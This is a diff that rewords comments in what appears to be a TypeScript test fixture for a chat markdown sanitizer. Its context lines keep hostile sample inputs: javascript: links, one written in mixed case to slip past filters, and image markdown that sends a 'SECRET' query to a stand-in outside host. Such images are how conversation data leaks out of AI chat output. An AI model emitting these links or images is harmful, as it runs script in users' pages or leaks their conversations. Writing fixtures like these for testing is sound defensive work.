@@ -1,6 +1,6 @@
 import { ELSEWHERE, planted, SCRIPT } from './hostile-case.ts';
 
-/** Links that would run something, open a program, or lead elsewhere than they say. */
+/** Links that would run code, open a program, or lead to another address than shown. */
 const leading = {
   javascript: `[look](javascript:${encodeURIComponent(SCRIPT)})`,
   'javascript in capitals': '[look](JaVaScRiPt:alert(1))',
@@ -28,7 +28,7 @@ const leading = {
   'very long': `[x](https://good.example/${'a'.repeat(5000)})`,
 };
 
-/** Pictures that would carry words of the conversation away as soon as they are shown. */
+/** Images whose requests would send words of the conversation away when they are rendered. */
 const exfiltrating = {
   picture: `![](https://${ELSEWHERE}/?q=SECRET)`,
   'picture by reference': `![x][p]\n\n[p]: https://${ELSEWHERE}/?q=SECRET`,
